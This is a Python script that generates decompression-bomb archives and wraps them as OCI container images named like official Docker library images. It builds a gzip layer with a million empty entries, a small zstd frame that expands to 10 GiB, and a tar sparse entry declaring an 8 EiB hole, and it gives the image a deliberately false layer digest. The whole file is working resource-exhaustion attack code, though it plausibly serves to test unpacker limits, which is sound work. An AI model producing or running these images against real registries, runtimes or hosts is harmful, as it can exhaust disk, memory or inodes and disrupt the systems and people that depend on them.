#!/usr/bin/env python3
"""Archives that are small and grow: an image of one layer, or the layer alone, on standard output.

usage: bombs.py entries|zeros|hole layer|image

  entries  a million files and one, without content, in gzip
  zeros    one file of 10 GiB, in a zstd frame of 330 KB
  hole     one file with a hole of 8 EiB, as GNU tar writes it
"""

import hashlib
import io
import json
import sys
import tarfile
import zlib


def header(name, size=0, kind=tarfile.REGTYPE, **more):
    info = tarfile.TarInfo(name)
    info.size, info.type = size, kind
    for key, value in more.items():
        setattr(info, key, value)
    return info.tobuf(tarfile.PAX_FORMAT)


def entries():
    """Each header differs from the first in seven digits of its name, and in the sum over it."""
    first = bytearray(header("d/0000000"))
    total = sum(first[:148]) + sum(first[156:]) + 8 * 32
    gzip = zlib.compressobj(1, zlib.DEFLATED, 31)
    for start in range(0, 1_000_001, 1000):
        piece = bytearray()
        for n in range(start, min(start + 1000, 1_000_001)):
            digits = b"%07d" % n
            first[2:9] = digits
            first[148:156] = b"%06o\0 " % (total + sum(digits) - 7 * 48)
            piece += first
        yield gzip.compress(bytes(piece))
    yield gzip.compress(bytes(1024)) + gzip.flush()


def zeros():
    size, largest = 10 << 30, 128 << 10
    head = header("zeros", size)
    yield bytes([0x28, 0xB5, 0x2F, 0xFD, 0, (20 - 10) << 3])

    def block(content, kind, length, last=0):
        return (last | kind << 1 | length << 3).to_bytes(3, "little") + content

    # A header as it is, then runs of one byte.
    yield block(head, 0, len(head))
    for _ in range(size // largest):
        yield block(b"\0", 1, largest)
    yield block(b"\0", 1, 1024, 1)


def hole():
    records = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "hole", "GNU.sparse.realsize": str((1 << 63) - 1)}
    table = b"1\n0\n1\n".ljust(512, b"\0")
    yield header("GNUSparseFile.0/hole", len(table) + 1, pax_headers=records) + table + b"x".ljust(512, b"\0") + bytes(1024)


MEDIA = {"entries": "+gzip", "zeros": "+zstd", "hole": ""}
what, form = sys.argv[1:]
out = sys.stdout.buffer
parts = globals()[what]()
if form == "layer":
    for part in parts:
        out.write(part)
    sys.exit()
# Nobody can know what the layer is before it is unpacked, so what the config says of it is a lie.
layer = b"".join(parts)
blobs = {}


def put(content, **more):
    digest = hashlib.sha256(content).hexdigest()
    blobs[digest] = content
    return {"digest": "sha256:" + digest, "size": len(content), **more}


oci = "application/vnd.oci.image."
diff_id = "sha256:" + hashlib.sha256(what.encode()).hexdigest()
config = {"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": [diff_id]}}
manifest = {
    "schemaVersion": 2,
    "mediaType": oci + "manifest.v1+json",
    "config": put(json.dumps(config).encode(), mediaType=oci + "config.v1+json"),
    "layers": [put(layer, mediaType=oci + "layer.v1.tar" + MEDIA[what])],
}
named = {"annotations": {"io.containerd.image.name": f"docker.io/library/bomb-{what}:latest"}}
index = {"schemaVersion": 2, "manifests": [put(json.dumps(manifest).encode(), mediaType=manifest["mediaType"], **named)]}
with tarfile.open(fileobj=out, mode="w|") as archive:
    files = {"oci-layout": b'{"imageLayoutVersion":"1.0.0"}', "index.json": json.dumps(index).encode()}
    files |= {f"blobs/sha256/{digest}": content for digest, content in blobs.items()}
    for name, content in files.items():
        info = tarfile.TarInfo(name)
        info.size = len(content)
        archive.addfile(info, io.BytesIO(content))
